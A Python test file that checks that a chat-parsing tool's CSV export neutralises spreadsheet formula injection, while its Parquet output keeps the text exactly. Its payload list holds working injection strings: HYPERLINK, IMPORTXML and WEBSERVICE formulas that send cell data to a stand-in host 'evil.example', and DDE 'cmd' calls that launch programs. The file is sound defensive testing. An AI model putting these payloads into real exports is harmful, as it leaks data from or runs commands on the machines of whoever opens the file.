"""CSV injection: ``chatsignals parse -o x.csv`` must not hand a spreadsheet a formula.

A seller who writes ``=HYPERLINK("http://evil/?"&A1, "Invoice")`` in a chat gets that cell run
when the buyer's lawyer opens the CSV in Excel or LibreOffice. Every cell that starts with
= + - @ (or a tab/CR that hides one) is written with a leading quote; the Parquet table, which
is the evidence, keeps the words exactly as written.
"""

from __future__ import annotations

import csv
import json
import tempfile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from chatsignals.cli import main

from .strategies import LONG_RUN

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice PI-231145678901")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
]


def hostile_generic_csv(path: Path) -> Path:
    rows = [["timestamp", "sender", "text", "conversation_id", "message_id"]]
    for i, payload in enumerate(PAYLOADS):
        rows.append([f"2025-04-01T10:{i:02d}:00+02:00", "Lily Chen", payload, "case-1", f"m{i}"])
    rows.append(["2025-04-01T11:00:00+02:00", "=Lily Chen", "pay to our new account", "=1+1", "@m99"])
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    return path


def hostile_whatsapp(path: Path) -> Path:
    lines = [f"01/04/2025, 10:{i:02d} - Lily Chen: {p}" for i, p in enumerate(PAYLOADS) if p[0] not in "\t\r"]
    lines += ["01/04/2025, 11:00 - +86 138 0000 0000: =WEBSERVICE(\"http://evil.example\")",
              "01/04/2025, 11:01 - @lily: -5% discount if you pay today"]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def csv_cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def assert_no_formula_cells(path: Path) -> None:
    rows = csv_cells(path)
    assert len(rows) > 1
    bad = [(r, c, cell) for r, row in enumerate(rows) for c, cell in enumerate(row) if cell.startswith(FORMULA_START)]
    assert bad == [], f"formula cells in {path.name}: {bad[:5]}"


@pytest.mark.parametrize("make", [hostile_generic_csv, hostile_whatsapp], ids=["generic_csv", "whatsapp"])
def test_csv_output_neutralises_formula_cells(make, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    source = make(tmp_path / ("chat.csv" if make is hostile_generic_csv else "WhatsApp Chat with Lily Chen.txt"))
    out = tmp_path / "messages.csv"
    assert main(["parse", str(source), "-o", str(out), "--tz", "Europe/Berlin", "-q"]) == 0
    assert_no_formula_cells(out)
    header = csv_cells(out)[0]
    text_col = header.index("text")
    quoted = [row[text_col] for row in csv_cells(out)[1:] if row[text_col].startswith("'")]
    assert len(quoted) >= 4  # the payloads are there, quoted, not dropped


def test_parquet_keeps_the_words_exactly(tmp_path: Path) -> None:
    source = hostile_generic_csv(tmp_path / "chat.csv")
    out = tmp_path / "messages.parquet"
    assert main(["parse", str(source), "-o", str(out), "-q"]) == 0
    table = pd.read_parquet(out)
    assert set(PAYLOADS) <= set(table["text"])
    assert "=Lily Chen" in set(table["sender"])


def test_bare_carriage_return_cannot_start_a_formula_row(tmp_path: Path) -> None:
    source = tmp_path / "chat.csv"
    source.write_text(
        "timestamp,sender,text\r\n2025-04-01T10:00:00+02:00,Lily Chen,\"see invoice\r=1+1\"\r\n",
        encoding="utf-8", newline="",
    )
    out = tmp_path / "messages.csv"
    assert main(["parse", str(source), "-o", str(out), "-q"]) == 0
    assert len(csv_cells(out)) == 2  # header and one message: the CR did not split the row
    assert_no_formula_cells(out)


#: bare CRs are left to the test above (a known, pending bug)
cell_text = st.tuples(st.sampled_from(["=", "+", "-", "@", "\t", "'", " ", "a", "１"]), st.text(max_size=20)).map(
    lambda t: t[0] + t[1].replace("\x00", "").replace("\r", "")
)


@settings(max_examples=30, deadline=None, derandomize=not LONG_RUN,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(texts=st.lists(cell_text, min_size=1, max_size=5), sender=cell_text)
def test_any_formula_prefix_is_neutralised(texts: list[str], sender: str) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        src = Path(tmp) / "chat.jsonl"
        src.write_text(
            "".join(
                json.dumps({"timestamp": f"2025-04-01T10:{i:02d}:00Z", "sender": sender or "x", "text": t}) + "\n"
                for i, t in enumerate(texts)
            ),
            encoding="utf-8",
        )
        out = Path(tmp) / "m.csv"
        code = main(["parse", str(src), "-o", str(out), "-q"])
        assert code == 0
        assert_no_formula_cells(out)
